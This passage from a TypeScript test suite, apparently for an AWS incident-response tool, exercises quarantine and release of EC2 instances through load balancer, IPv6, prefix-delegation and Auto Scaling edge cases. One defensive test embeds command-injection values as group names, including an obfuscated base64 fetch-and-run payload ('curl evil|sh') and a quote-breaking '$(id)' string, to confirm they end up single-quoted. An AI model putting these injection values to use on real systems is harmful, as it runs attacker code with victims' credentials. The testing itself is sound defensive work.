        AutoScalingInstances: [{ InstanceId: INSTANCE_ID, AutoScalingGroupName: GROUP, LifecycleState: 'Standby', HealthStatus: 'HEALTHY', AvailabilityZone: `${REGION}a`, ProtectedFromScaleIn: true }],
      });
      asMock.on(DescribeAutoScalingGroupsCommand).resolves({ AutoScalingGroups: [] });
      asMock.on(DescribeLifecycleHooksCommand).rejects(sdkError('ValidationError'));
    });
    expect(released.status).toBe('released');
    expect(asMock.commandCalls(ExitStandbyCommand)).toHaveLength(0);
    expect(asMock.commandCalls(SetInstanceProtectionCommand)).toHaveLength(0);
    expect(released.actions.find((a) => a.api === 'autoscaling:ExitStandby')).toMatchObject({ outcome: 'skipped', detail: expect.stringContaining('could not be described') as unknown });
    expect(released.fleet?.autoScaling).toContain('could not be described');
  });
});

describe('ATTACK (review-3q): the Pending:Wait warning\'s AWS CLI commands name a group whoever creates it names', () => {
  // A group's name may hold any ASCII character 33 to 126 but the colon (API_CreateAutoScalingGroup.html):
  // `;`, `$(…)`, backticks, `|`, quotes. Whoever may create a group (the compromised instance's role,
  // say) names one so that the command the alert asks a person to paste, with their own credentials,
  // runs theirs too. Each name is one shell word, single-quoted: nothing in it is run.
  const hooked = (groupName: string) => ({
    groupName,
    minSize: 1,
    maxSize: 3,
    desiredCapacity: 3,
    healthCheckType: 'EC2',
    suspendedProcesses: [],
    targetGroupArns: [],
    loadBalancerNames: [],
    lifecycleHooks: [{ name: 'warm-cache', transition: 'autoscaling:EC2_INSTANCE_LAUNCHING', heartbeatTimeout: 600 }],
  });
  const warningFor = (groupName: string) =>
    planAutoScaling({ kind: 'member', groupName, lifecycleState: 'Pending:Wait', protectedFromScaleIn: false, group: hooked(groupName) }, INSTANCE_ID, 'detach').warnings.join(' ');
  /** Every `--auto-scaling-group-name` argument, as a POSIX shell reads it up to the next space (none is inside the quotes: names have none). */
  const groupArguments = (warning: string) => [...warning.matchAll(/--auto-scaling-group-name (\S+)/g)].map((m) => m[1]);

  it('ATTACK (review-3q): single-quotes a group name holding $( ), ; or backticks in every command', () => {
    const evil = 'web$(echo${IFS}Y3VybCBldmlsfHNo|base64${IFS}-d|sh);`id`;x';
    const warning = warningFor(evil);
    const args = groupArguments(warning);
    expect(args).toHaveLength(3);
    for (const arg of args) expect(arg).toBe(`'${evil}'`);
    expect(warning).not.toContain(`--auto-scaling-group-name ${evil}`);
    // As the alert shows it (neutralized, one line): still one quoted word each.
    for (const arg of groupArguments(oneLine(warning))) expect(arg).toBe(`'${evil}'`);
  });

  it('ATTACK (review-3q): a single quote in the name cannot close the quoting', () => {
    const evil = "web'$(id)'x";
    const args = groupArguments(warningFor(evil));
    expect(args).toHaveLength(3);
    for (const arg of args) expect(arg).toBe(`'web'\\''$(id)'\\''x'`);
  });

  it('leaves a plain group name as it is', () => {
    expect(groupArguments(warningFor('web-asg_1.prod/blue'))).toEqual(['web-asg_1.prod/blue', 'web-asg_1.prod/blue', 'web-asg_1.prod/blue']);
  });
});

describe('ATTACK (ipv6-targets): ip targets of an IPv6 target group (docs/security.md row 3t)', () => {
  const V6_TG = `arn:aws:elasticloadbalancing:${REGION}:${ACCOUNT}:targetgroup/web-v6/2222222222222222`;
  // EC2 gives the short spelling; the same address as a target id in its long, upper-case one.
  const ADDRESS = '2600:1f18:abcd:1200::a';
  const TARGET_ID = '2600:1F18:ABCD:1200:0:0:0:000A';
  const APPROVED: ReleaseClearance = {
    check: async (_input, record) => ({ cleared: true, approvedBy: 'carol', approvedAt: NOW.toISOString(), executionArn: 'arn:aws:states:eu-west-1:111122223333:execution:Firebreak-release-instance:r', mode: 'enforce', releaseRecord: { capturedAt: record.capturedAt, claimSerial: record.claimSerial ?? 0 } }),
  };
  const v6Target = { targetGroupArn: V6_TG, targetId: TARGET_ID, networkInterfaceId: ENI_A, port: 443, managedByGroup: false };

  /** The instance's ENIs (ENI B in `eniBVpc`), each with the IPv6 addresses given. */
  function givenIpv6Instance(v6: { a: string[]; b: string[] }, eniBVpc = VPC, groups = [APP_SG]): void {
    givenInstance(ec2Mock, { enis: [{ id: ENI_A, groups }, { id: ENI_B, groups }], ...(groups[0] === ISOLATION_SG ? { tags: { 'firebreak:status': 'quarantined' } } : {}) });
    const described = describedInstance({ enis: [{ id: ENI_A, groups }, { id: ENI_B, groups, vpcId: eniBVpc }], ...(groups[0] === ISOLATION_SG ? { tags: { 'firebreak:status': 'quarantined' } } : {}) });
    described.NetworkInterfaces = described.NetworkInterfaces?.map((eni, index) => ({
      ...eni,
      PrivateIpAddresses: [{ PrivateIpAddress: index === 0 ? '10.0.1.5' : '10.0.1.6', Primary: true }],
      Ipv6Addresses: (index === 0 ? v6.a : v6.b).map((Ipv6Address) => ({ Ipv6Address, IsPrimaryIpv6: false })),
    }));
    ec2Mock.on(DescribeInstancesCommand).resolves({ Reservations: [{ Instances: [described] }] });
  }

  function givenIpv6TargetGroup(targetIds: string[]): void {
    asMock.on(DescribeAutoScalingInstancesCommand).resolves({ AutoScalingInstances: [] });
    elbv2Mock.on(DescribeTargetGroupsCommand).resolves({ TargetGroups: [{ TargetGroupArn: V6_TG, VpcId: VPC, TargetType: 'ip', IpAddressType: 'ipv6', Port: 443 }] });
    elbv2Mock.on(DescribeTargetHealthCommand, { TargetGroupArn: V6_TG }).resolves({
      TargetHealthDescriptions: targetIds.map((Id) => ({ Target: { Id, Port: 443 }, TargetHealth: { State: 'healthy' } })),
    });
  }

  async function releaseWith(v6: { a: string[]; b: string[] }) {
    await records.saveIfAbsent(await sealed({ ...recordOfDefaultInstance(ec2Incident().key, NOW.toISOString()), loadBalancers: { targets: [v6Target], classic: [] } }));
    givenIpv6Instance(v6, VPC, [ISOLATION_SG]);
    ec2Mock.on(DescribeSecurityGroupsCommand).resolves({ SecurityGroups: [APP_SG, DB_SG, MON_SG].map((GroupId) => ({ GroupId, OwnerId: ACCOUNT, VpcId: VPC, GroupName: GroupId })) });
    asMock.on(DescribeAutoScalingInstancesCommand).resolves({ AutoScalingInstances: [] });
    return releaseInstance(
      { incident: ec2Incident(), mode: 'enforce', options: { restoreInstanceProfile: true, restoreAutoScaling: true, restoreLoadBalancers: true } },
      { clients, logger: silentLogger, records, sealer: TEST_SEALER, clearance: APPROVED, environment: { FIREBREAK_MODE: 'enforce' }, now: () => NOW },
    );
  }

  it('ATTACK (ipv6-targets): quarantine deregisters the target at an IPv6 address of its ENI, in whatever spelling, and records it with that ENI', async () => {
    givenIpv6TargetGroup([TARGET_ID, '2600:1f18:abcd:1200::b']);
    givenIpv6Instance({ a: [ADDRESS], b: [] });
    const result = await quarantine();
    // The target id exactly as ELB gave it; another instance's address (…::b) stays.
    expect(inputsOf(elbv2Mock, DeregisterTargetsCommand)).toEqual([{ TargetGroupArn: V6_TG, Targets: [{ Id: TARGET_ID, Port: 443 }] }]);
    expect(result.preQuarantine?.loadBalancers?.targets).toEqual([v6Target]);
  });

  it('ATTACK (ipv6-targets): the same IPv6 address on an ENI of another VPC is not the instance\'s target there (row 3n\'s rule)', async () => {
    givenIpv6TargetGroup([TARGET_ID]);
    givenIpv6Instance({ a: [], b: [ADDRESS] }, OTHER_VPC);
    const result = await quarantine();
    expect(inputsOf(elbv2Mock, DeregisterTargetsCommand)).toEqual([]);
    expect(result.preQuarantine?.loadBalancers?.targets).toEqual([]);
  });

  it('ATTACK (ipv6-targets): release registers the IPv6 target again, exactly as recorded, while the recorded ENI holds the address', async () => {
    const released = await releaseWith({ a: ['2600:1f18:abcd:1200:0:0:0:a'], b: [] });
    expect(released.status).toBe('released');
    expect(inputsOf(elbv2Mock, RegisterTargetsCommand)).toEqual([{ TargetGroupArn: V6_TG, Targets: [{ Id: TARGET_ID, Port: 443 }] }]);
  });

  it('ATTACK (ipv6-targets): release does not register the IPv6 target once the recorded ENI no longer holds the address, even when another ENI of the instance does', async () => {
    const released = await releaseWith({ a: ['2600:1f18:abcd:1200::c'], b: [ADDRESS] });
    expect(released.status).toBe('released');
    expect(elbv2Mock.commandCalls(RegisterTargetsCommand)).toHaveLength(0);
    expect(released.actions.find((a) => a.target === V6_TG)).toMatchObject({ outcome: 'skipped', detail: expect.stringContaining(`not held by ${ENI_A}`) as unknown });
  });

  it('spells each address one way: IPv6 in any spelling alike, IPv4 as it is, never an IPv4 address as an IPv6 one', () => {
    for (const spelling of ['2001:db8::1', '2001:0db8:0:0:0:0:0:1', '2001:DB8::0:1', '2001:db8:0::0:1']) expect(addressKey(spelling)).toBe('[2001:db8::1]');
    expect(addressKey('2001:db8::2')).not.toBe(addressKey('2001:db8::1'));
    expect(addressKey('10.0.1.10')).toBe('10.0.1.10');
    // An IPv4-mapped IPv6 address is not the IPv4 address.
    expect(addressKey('::ffff:10.0.1.10')).not.toBe(addressKey('10.0.1.10'));
    // Not addresses: left as they are, and nothing after a bracket or an @ reaches the URL parser's host.
    for (const other of ['i-0abc1234def567890', 'x]@[2001:db8::1', 'fe80::1%eth0', '']) expect(addressKey(other)).toBe(other);
  });

  it('ipTargetRefusal compares an IPv6 target id with the ENI\'s addresses in any spelling', () => {
    const eni = (addresses: string[]) => ({ networkInterfaceId: ENI_A, vpcId: VPC, addresses: addresses.map(addressKey) });
    expect(ipTargetRefusal({ targetId: '2001:0db8:0:0:0:0:0:1', networkInterfaceId: ENI_A }, INSTANCE_ID, [eni(['2001:db8::1'])], new Set([ENI_A]))).toBeUndefined();
    expect(ipTargetRefusal({ targetId: '2001:db8::1', networkInterfaceId: ENI_A }, INSTANCE_ID, [eni(['2001:db8::2'])], new Set([ENI_A]))).toContain('Refused');
    expect(ipTargetRefusal({ targetId: '::ffff:10.0.1.10', networkInterfaceId: ENI_A }, INSTANCE_ID, [eni(['10.0.1.10'])], new Set([ENI_A]))).toContain('Refused');
  });

  // review-3t (checked, holds): addressKey brackets what it hands the URL parser, so only its IPv6
  // parser runs (with dotted quads only in their strict form inside an IPv6 address); the IPv4 host
  // parser, which would read 167772165, 012.0.0.5, 0x0a.0.0.1 or 10.1 as an address, never does.
  it('review-3t: no other spelling of an IPv4 address, and no IPv6 form of it, is that IPv4 address', () => {
    const ipv4 = addressKey('10.0.1.5');
    const others = ['167772165', '012.0.1.5', '0x0a.0.1.5', '0xa000105', '10.1.5', '10.0.261', '10.0.1.05', '10.0.1.5.', ' 10.0.1.5', '10.0.1.5%eth0', '[10.0.1.5]', '::ffff:10.0.1.5', '::10.0.1.5', '::ffff:a00:105', '64:ff9b::10.0.1.5'];
    for (const other of others) expect([other, addressKey(other)]).not.toEqual([other, ipv4]);
    // Nor is a zone-scoped or malformed IPv6 spelling the address.
    for (const other of ['2600:1f18:abcd:1200::a%eth0', '2600:1f18:abcd:1200::a/64', '2600:1f18:abcd:1200:::a', '2600:1f18:abcd:1200::0000a']) {
      expect([other, addressKey(other)]).not.toEqual([other, addressKey(ADDRESS)]);
    }
    // Only the same 128-bit value is: embedded dotted quads included.
    expect(addressKey('::ffff:10.0.1.5')).toBe(addressKey('::ffff:a00:105'));
    expect(addressKey('0:0:0:0:0:FFFF:10.0.1.5')).toBe('[::ffff:a00:105]');
  });
});

describe('ATTACK (prefix-targets): ip targets at an address of a prefix delegated to the instance\'s ENI (docs/security.md row 3u)', () => {
  const POD_TG = `arn:aws:elasticloadbalancing:${REGION}:${ACCOUNT}:targetgroup/pods/3333333333333333`;
  const POD_V6_TG = `arn:aws:elasticloadbalancing:${REGION}:${ACCOUNT}:targetgroup/pods-v6/4444444444444444`;
  // EC2 prefix delegation: a /28 of IPv4 and an /80 of IPv6 per prefix
  // (https://docs.aws.amazon.com/AWSEC2/latest/UserGuide/ec2-prefix-eni.html).
  const V4_PREFIX = '10.0.1.16/28';
  const V6_PREFIX = '2600:1f18:abcd:1200:7f00::/80';
  // A pod inside each prefix, the IPv6 one as ELB may spell it; and the first addresses past each.
  const POD = '10.0.1.29';
  const POD_V6 = '2600:1F18:ABCD:1200:7F00:0:0:00A1';
  const PAST = '10.0.1.32';
  const PAST_V6 = '2600:1f18:abcd:1200:7f01::';
  const APPROVED: ReleaseClearance = {
    check: async (_input, record) => ({ cleared: true, approvedBy: 'carol', approvedAt: NOW.toISOString(), executionArn: 'arn:aws:states:eu-west-1:111122223333:execution:Firebreak-release-instance:r', mode: 'enforce', releaseRecord: { capturedAt: record.capturedAt, claimSerial: record.claimSerial ?? 0 } }),
  };

  /** The instance's ENIs (ENI B in `eniBVpc`), each with the delegated prefixes given (its own addresses outside them). */
  function givenPrefixInstance(prefixes: { a: string[]; b: string[] }, eniBVpc = VPC, groups = [APP_SG]): void {
    const tags = groups[0] === ISOLATION_SG ? { tags: { 'firebreak:status': 'quarantined' } } : {};
    givenInstance(ec2Mock, { enis: [{ id: ENI_A, groups }, { id: ENI_B, groups }], ...tags });
    const described = describedInstance({ enis: [{ id: ENI_A, groups }, { id: ENI_B, groups, vpcId: eniBVpc }], ...tags });
    described.NetworkInterfaces = described.NetworkInterfaces?.map((eni, index) => {
      const own = index === 0 ? prefixes.a : prefixes.b;
      return {
        ...eni,
        PrivateIpAddresses: [{ PrivateIpAddress: index === 0 ? '10.0.1.5' : '10.0.1.6', Primary: true }],
        Ipv4Prefixes: own.filter((p) => !p.includes(':')).map((Ipv4Prefix) => ({ Ipv4Prefix })),
        Ipv6Prefixes: own.filter((p) => p.includes(':')).map((Ipv6Prefix) => ({ Ipv6Prefix })),
      };
    });
    ec2Mock.on(DescribeInstancesCommand).resolves({ Reservations: [{ Instances: [described] }] });
  }

  function givenPodTargetGroups(v4: string[], v6: string[]): void {
    asMock.on(DescribeAutoScalingInstancesCommand).resolves({ AutoScalingInstances: [] });
    elbv2Mock.on(DescribeTargetGroupsCommand).resolves({
      TargetGroups: [
        { TargetGroupArn: POD_TG, VpcId: VPC, TargetType: 'ip', IpAddressType: 'ipv4', Port: 8080 },
        { TargetGroupArn: POD_V6_TG, VpcId: VPC, TargetType: 'ip', IpAddressType: 'ipv6', Port: 8080 },
      ],
    });
    const health = (ids: string[]) => ({ TargetHealthDescriptions: ids.map((Id) => ({ Target: { Id, Port: 8080 }, TargetHealth: { State: 'healthy' as const } })) });
    elbv2Mock.on(DescribeTargetHealthCommand, { TargetGroupArn: POD_TG }).resolves(health(v4));
    elbv2Mock.on(DescribeTargetHealthCommand, { TargetGroupArn: POD_V6_TG }).resolves(health(v6));
  }

  const podTargets = [
    { targetGroupArn: POD_TG, targetId: POD, networkInterfaceId: ENI_A, port: 8080, managedByGroup: false },
    { targetGroupArn: POD_V6_TG, targetId: POD_V6, networkInterfaceId: ENI_A, port: 8080, managedByGroup: false },
  ];

  async function releaseWith(prefixes: { a: string[]; b: string[] }) {
    await records.saveIfAbsent(await sealed({ ...recordOfDefaultInstance(ec2Incident().key, NOW.toISOString()), loadBalancers: { targets: podTargets, classic: [] } }));
    givenPrefixInstance(prefixes, VPC, [ISOLATION_SG]);
    ec2Mock.on(DescribeSecurityGroupsCommand).resolves({ SecurityGroups: [APP_SG, DB_SG, MON_SG].map((GroupId) => ({ GroupId, OwnerId: ACCOUNT, VpcId: VPC, GroupName: GroupId })) });
    asMock.on(DescribeAutoScalingInstancesCommand).resolves({ AutoScalingInstances: [] });
    return releaseInstance(
      { incident: ec2Incident(), mode: 'enforce', options: { restoreInstanceProfile: true, restoreAutoScaling: true, restoreLoadBalancers: true } },
      { clients, logger: silentLogger, records, sealer: TEST_SEALER, clearance: APPROVED, environment: { FIREBREAK_MODE: 'enforce' }, now: () => NOW },
    );
  }

  it('ATTACK (prefix-targets): quarantine deregisters the ip targets inside the ENI\'s delegated IPv4 and IPv6 prefixes, exactly as ELB gave them, and records them with that ENI', async () => {
    givenPodTargetGroups([POD, PAST, '10.0.1.15'], [POD_V6, PAST_V6]);
    givenPrefixInstance({ a: [V4_PREFIX, V6_PREFIX], b: [] });
    const result = await quarantine();
    // The addresses past either end of the prefixes are another interface's: they stay.
    expect(inputsOf(elbv2Mock, DeregisterTargetsCommand)).toEqual([
      { TargetGroupArn: POD_TG, Targets: [{ Id: POD, Port: 8080 }] },
      { TargetGroupArn: POD_V6_TG, Targets: [{ Id: POD_V6, Port: 8080 }] },
    ]);
    expect(result.preQuarantine?.loadBalancers?.targets).toEqual(podTargets);
  });

  it('ATTACK (prefix-targets): the same prefix delegated to an ENI of another VPC is not the instance\'s there (row 3n\'s rule)', async () => {
    givenPodTargetGroups([POD], [POD_V6]);
    givenPrefixInstance({ a: [], b: [V4_PREFIX, V6_PREFIX] }, OTHER_VPC);
    const result = await quarantine();
    expect(inputsOf(elbv2Mock, DeregisterTargetsCommand)).toEqual([]);
    expect(result.preQuarantine?.loadBalancers?.targets).toEqual([]);
  });

  it('ATTACK (prefix-targets): release registers the targets again, exactly as recorded, while the recorded ENI holds a prefix containing them', async () => {
    const released = await releaseWith({ a: [V4_PREFIX, '2600:1f18:abcd:1200:7f00:0:0:0/80'], b: [] });
    expect(released.status).toBe('released');
    expect(inputsOf(elbv2Mock, RegisterTargetsCommand)).toEqual([
      { TargetGroupArn: POD_TG, Targets: [{ Id: POD, Port: 8080 }] },
      { TargetGroupArn: POD_V6_TG, Targets: [{ Id: POD_V6, Port: 8080 }] },
    ]);
  });

  it('ATTACK (prefix-targets): release does not register a target once the recorded ENI no longer holds a prefix containing it, even when another ENI of the instance does', async () => {
    const released = await releaseWith({ a: ['10.0.1.32/28', '2600:1f18:abcd:1200:7f01::/80'], b: [V4_PREFIX, V6_PREFIX] });
    expect(released.status).toBe('released');
    expect(elbv2Mock.commandCalls(RegisterTargetsCommand)).toHaveLength(0);
    for (const arn of [POD_TG, POD_V6_TG]) {
      expect(released.actions.find((a) => a.target === arn)).toMatchObject({ outcome: 'skipped', detail: expect.stringContaining(`not held by ${ENI_A}`) as unknown });
    }
  });

  it('holds an address in a delegated prefix only by exact containment, each side parsed strictly', () => {
    const eni = (prefixes: string[]) => ({ prefixes: prefixes.flatMap((p) => prefixKey(p) ?? []) });
    // Both ends of the /28 and the /80, no further.
    for (const inside of ['10.0.1.16', '10.0.1.31']) expect(holdsAddress(eni([V4_PREFIX]), inside)).toBe(true);
    for (const outside of ['10.0.1.15', '10.0.1.32', '10.0.1.290', '10.0.1.016', '010.0.1.17', '167772177', '10.0.1.17%eth0', ' 10.0.1.17', '10.0.1.17/28']) {
      expect([outside, holdsAddress(eni([V4_PREFIX]), outside)]).toEqual([outside, false]);
    }
    for (const inside of ['2600:1f18:abcd:1200:7f00::', '2600:1f18:abcd:1200:7f00:ffff:ffff:ffff', POD_V6]) expect(holdsAddress(eni([V6_PREFIX]), inside)).toBe(true);
    for (const outside of [PAST_V6, '2600:1f18:abcd:1200:7eff:ffff:ffff:ffff', '2600:1f18:abcd:1200:7f00::a1%eth0', '2600:1f18:abcd:1200:7f00::a1/80']) {
      expect([outside, holdsAddress(eni([V6_PREFIX]), outside)]).toEqual([outside, false]);
    }
    // Never across families: no IPv6 form of an IPv4 address is in an IPv4 prefix, nor the reverse.
    for (const mapped of ['::ffff:10.0.1.17', '::ffff:a00:111', '::10.0.1.17', '64:ff9b::10.0.1.17']) expect(holdsAddress(eni([V4_PREFIX]), mapped)).toBe(false);
    expect(holdsAddress(eni(['::ffff:10.0.1.16/124']), '10.0.1.17')).toBe(false);
    // Not a prefix (host bits set, a length of no family, a padded length): holds nothing.
    for (const notAPrefix of ['10.0.1.17/28', '10.0.1.16/33', '10.0.1.16/028', '10.0.1.16/', '2600:1f18:abcd:1200:7f00::1/80', '2600:1f18::/129', '10.0.1.16/28/28']) {
      expect([notAPrefix, prefixKey(notAPrefix)]).toEqual([notAPrefix, undefined]);
    }
    // One spelling, as the ENI's addresses have.
    expect(prefixKey('2600:1F18:ABCD:1200:7F00:0:0:0/80')).toBe('2600:1f18:abcd:1200:7f00::/80');
    expect(prefixKey(V4_PREFIX)).toBe(V4_PREFIX);
  });
});

describe('ATTACK (prefix-targets): a registration found only by a later run on a kept record (docs/security.md row 3v)', () => {
  const LATE_TG = `arn:aws:elasticloadbalancing:${REGION}:${ACCOUNT}:targetgroup/late/5555555555555555`;
  const LATE_LB = 'late-classic';
  const APPROVED: ReleaseClearance = {
    check: async (_input, record) => ({ cleared: true, approvedBy: 'carol', approvedAt: NOW.toISOString(), executionArn: 'arn:aws:states:eu-west-1:111122223333:execution:Firebreak-release-instance:r', mode: 'enforce', releaseRecord: { capturedAt: record.capturedAt, claimSerial: record.claimSerial ?? 0 } }),
  };

  /** Where the instance is registered now: the instance target groups WEB_TG and LATE_TG, and Classic Load Balancers. */
  function givenRegistered(targetGroups: string[], classic: string[]): void {
    asMock.on(DescribeAutoScalingInstancesCommand).resolves({ AutoScalingInstances: [] });
    elbv2Mock.on(DescribeTargetGroupsCommand).resolves({ TargetGroups: [WEB_TG, LATE_TG].map((TargetGroupArn) => ({ TargetGroupArn, VpcId: VPC, TargetType: 'instance', Port: 80 })) });
    for (const arn of [WEB_TG, LATE_TG]) {
      elbv2Mock.on(DescribeTargetHealthCommand, { TargetGroupArn: arn }).resolves({
        TargetHealthDescriptions: targetGroups.includes(arn) ? [{ Target: { Id: INSTANCE_ID, Port: 80 }, TargetHealth: { State: 'healthy' } }] : [],
      });
    }
    elbMock.on(DescribeLoadBalancersCommand).resolves({
      LoadBalancerDescriptions: [LEGACY_LB, LATE_LB].map((LoadBalancerName) => ({
        LoadBalancerName,
        VPCId: VPC,
        CreatedTime: new Date('2026-01-05T12:00:00.000Z'),
        Instances: classic.includes(LoadBalancerName) ? [{ InstanceId: INSTANCE_ID }] : [],
      })),
    });
  }

  /** The approved release of the kept record, registered nowhere now, with the calls before it forgotten. */
  async function releaseFromKeptRecord() {
    elbv2Mock.resetHistory();
    elbMock.resetHistory();
    givenRegistered([], []);
    ec2Mock.on(DescribeSecurityGroupsCommand).resolves({ SecurityGroups: [APP_SG, DB_SG, MON_SG].map((GroupId) => ({ GroupId, OwnerId: ACCOUNT, VpcId: VPC, GroupName: GroupId })) });
    return releaseInstance(
      { incident: ec2Incident(), mode: 'enforce', options: { restoreInstanceProfile: false, restoreAutoScaling: true, restoreLoadBalancers: true } },
      { clients, logger: silentLogger, records, sealer: TEST_SEALER, clearance: APPROVED, environment: { FIREBREAK_MODE: 'enforce' }, now: () => NOW },
    );
  }

  /** The first run: the instance behind WEB_TG and LEGACY_LB only, both deregistered and recorded. */
  async function firstRun(): Promise<QuarantineRecord | undefined> {
    givenRegistered([WEB_TG], [LEGACY_LB]);
    await quarantine();
    const first = await records.get(ACCOUNT, REGION, INSTANCE_ID);
    expect(first?.loadBalancers).toEqual({ targets: [{ targetGroupArn: WEB_TG, targetId: INSTANCE_ID, port: 80, managedByGroup: false }], classic: [{ loadBalancerName: LEGACY_LB, managedByGroup: false }] });
    elbv2Mock.resetHistory();
    elbMock.resetHistory();
    // Since: whoever may register targets put the quarantined instance behind LATE_TG and LATE_LB.
    givenIsolatedInstance();
    givenRegistered([LATE_TG], [LATE_LB]);
    return first;
  }

  it('ATTACK (prefix-targets): a later run deregisters it and adds it to the kept record, sealed again, so that release names it (and, row 3w, does not register it)', async () => {
    const first = await firstRun();
    const again = await quarantine();
    expect(again.status).toBe('quarantined');
    expect(inputsOf(elbv2Mock, DeregisterTargetsCommand)).toEqual([{ TargetGroupArn: LATE_TG, Targets: [{ Id: INSTANCE_ID, Port: 80 }] }]);
    expect(inputsOf(elbMock, DeregisterInstancesFromLoadBalancerCommand)).toEqual([{ LoadBalancerName: LATE_LB, Instances: [{ InstanceId: INSTANCE_ID }] }]);
    const kept = await records.get(ACCOUNT, REGION, INSTANCE_ID);
    // The original capture, its registrations first, the new ones after them; the seal covers them.
    expect(kept).toMatchObject({ capturedAt: first?.capturedAt, networkInterfaces: first?.networkInterfaces });
    expect(kept?.loadBalancers).toEqual({
      targets: [...(first?.loadBalancers?.targets ?? []), { targetGroupArn: LATE_TG, targetId: INSTANCE_ID, port: 80, managedByGroup: false, foundSinceCapture: true }],
      classic: [...(first?.loadBalancers?.classic ?? []), { loadBalancerName: LATE_LB, managedByGroup: false, foundSinceCapture: true }],
    });
    expect(kept && (await TEST_SEALER.verify(kept))).toEqual({ valid: true });

    const released = await releaseFromKeptRecord();
    expect(released.status).toBe('released');
    // Only where it was at the capture (row 3w): the later registrations are named, not made again.
    expect(inputsOf(elbv2Mock, RegisterTargetsCommand)).toEqual([{ TargetGroupArn: WEB_TG, Targets: [{ Id: INSTANCE_ID, Port: 80 }] }]);
    expect(inputsOf(elbMock, RegisterInstancesWithLoadBalancerCommand)).toEqual([{ LoadBalancerName: LEGACY_LB, Instances: [{ InstanceId: INSTANCE_ID }] }]);
    expect(released.actions.filter((a) => a.detail?.includes('registered since the capture')).map((a) => a.target)).toEqual([LATE_TG, LATE_LB]);
  });

  it('ATTACK (review-3u): release never registers the instance where it was put only while quarantined: a target group made since the capture, another port, a Classic Load Balancer it did not serve', async () => {
    await firstRun();
    // Since the capture, whoever may call RegisterTargets (the instance role's stolen session before
    // it was revoked, any principal of the account) made a target group of their own behind their
    // load balancer and put the instance in it, put it in WEB_TG again on a port of their choice (a
    // backdoor's), and behind LATE_LB; a later run (a finding they caused, a StartExecution) finds them.
    const THEIRS = `arn:aws:elasticloadbalancing:${REGION}:${ACCOUNT}:targetgroup/theirs/6666666666666666`;
    elbv2Mock.on(DescribeTargetGroupsCommand).resolves({ TargetGroups: [WEB_TG, LATE_TG, THEIRS].map((TargetGroupArn) => ({ TargetGroupArn, VpcId: VPC, TargetType: 'instance', Port: 80 })) });
    elbv2Mock.on(DescribeTargetHealthCommand, { TargetGroupArn: WEB_TG }).resolves({ TargetHealthDescriptions: [{ Target: { Id: INSTANCE_ID, Port: 4444 }, TargetHealth: { State: 'healthy' } }] });
    elbv2Mock.on(DescribeTargetHealthCommand, { TargetGroupArn: LATE_TG }).resolves({ TargetHealthDescriptions: [] });
    elbv2Mock.on(DescribeTargetHealthCommand, { TargetGroupArn: THEIRS }).resolves({ TargetHealthDescriptions: [{ Target: { Id: INSTANCE_ID, Port: 8080 }, TargetHealth: { State: 'healthy' } }] });
    await quarantine();
    // Containment is unchanged: all three are deregistered, and the record names them.
    expect(inputsOf(elbv2Mock, DeregisterTargetsCommand)).toHaveLength(2);
    expect(inputsOf(elbMock, DeregisterInstancesFromLoadBalancerCommand)).toEqual([{ LoadBalancerName: LATE_LB, Instances: [{ InstanceId: INSTANCE_ID }] }]);
    const kept = await records.get(ACCOUNT, REGION, INSTANCE_ID);
    expect(kept?.loadBalancers?.targets.map((t) => [t.targetGroupArn, t.port, t.foundSinceCapture])).toEqual([[WEB_TG, 80, undefined], [WEB_TG, 4444, true], [THEIRS, 8080, true]]);
    expect(kept && (await TEST_SEALER.verify(kept))).toEqual({ valid: true });
    // The mark is sealed: a record with it taken off does not verify.
    const unmarked = structuredClone(kept as QuarantineRecord);
    for (const t of unmarked.loadBalancers?.targets ?? []) delete t.foundSinceCapture;
    expect((await TEST_SEALER.verify(unmarked)).valid).toBe(false);

    const released = await releaseFromKeptRecord();
    expect(released.status).toBe('released');
    // Only where it was at the capture (rows 3j, 3l): each other one refused by name.
    expect(inputsOf(elbv2Mock, RegisterTargetsCommand)).toEqual([{ TargetGroupArn: WEB_TG, Targets: [{ Id: INSTANCE_ID, Port: 80 }] }]);
    expect(inputsOf(elbMock, RegisterInstancesWithLoadBalancerCommand)).toEqual([{ LoadBalancerName: LEGACY_LB, Instances: [{ InstanceId: INSTANCE_ID }] }]);
    const refused = released.actions.filter((a) => a.outcome === 'skipped' && a.detail?.includes('registered since the capture'));
    expect(refused.map((a) => a.target)).toEqual([WEB_TG, THEIRS, LATE_LB]);
  });

  it('a later run that finds only recorded registrations adds nothing: the kept record stays as it is', async () => {
    const first = await firstRun();
    // The first run's deregistration did not take (or the same were registered again): nothing new.
    givenRegistered([WEB_TG], [LEGACY_LB]);
    await quarantine();
    expect(inputsOf(elbv2Mock, DeregisterTargetsCommand)).toEqual([{ TargetGroupArn: WEB_TG, Targets: [{ Id: INSTANCE_ID, Port: 80 }] }]);
    expect((await records.get(ACCOUNT, REGION, INSTANCE_ID))?.loadBalancers).toEqual(first?.loadBalancers);
  });

  it('recordedRegistrationsOnly keeps the recorded registrations in the plan, says each one left registered, and carries the failure', () => {
    const web = { targetGroupArn: WEB_TG, targetId: INSTANCE_ID, port: 80, managedByGroup: false };
    const late = { targetGroupArn: LATE_TG, targetId: INSTANCE_ID, port: 80, managedByGroup: false };
    const found: LoadBalancerRecord = { targets: [web, late], classic: [{ loadBalancerName: LATE_LB, managedByGroup: false }] };
    const plan = planFleet({ ok: true, value: { autoScaling: { kind: 'off' }, loadBalancers: { record: found, targetGroupsChecked: 2, classicChecked: 2 } } }, INSTANCE_ID, { autoScaling: 'off', deregisterFromLoadBalancers: true });
    const failure = new Error('the record changed');
    const kept = recordedRegistrationsOnly(plan, { targets: [web], classic: [] }, failure);
    expect(kept.loadBalancers).toEqual({ targets: [web], classic: [] });
    expect(kept.failure).toBe(failure);
    expect(kept.observed.filter((a) => a.outcome === 'skipped').map((a) => [a.api, a.target])).toEqual([
      ['elasticloadbalancing:DeregisterTargets', LATE_TG],
      ['elasticloadbalancing:DeregisterInstancesFromLoadBalancer', LATE_LB],
    ]);
    expect(kept.observed.at(-1)?.detail).toContain('not deregistered until the record names it');
  });

  it('ATTACK (prefix-targets): when the kept record cannot be given it, a later run does not deregister it (release could not undo that), says why, deregisters the recorded ones, and fails the step', async () => {
    await firstRun();
    // The recorded registration back too, beside the new ones.
    givenRegistered([WEB_TG, LATE_TG], [LATE_LB]);
    const racing = Object.assign(Object.create(records) as InMemoryQuarantineRecordStore, { supplement: async () => 'changed' as const });
    const incident = ec2Incident();
    const options = { detachInstanceProfile: true, revokeRoleSessions: false, autoScaling: 'detach' as const, deregisterFromLoadBalancers: true };
    await expect(
      quarantineInstance(
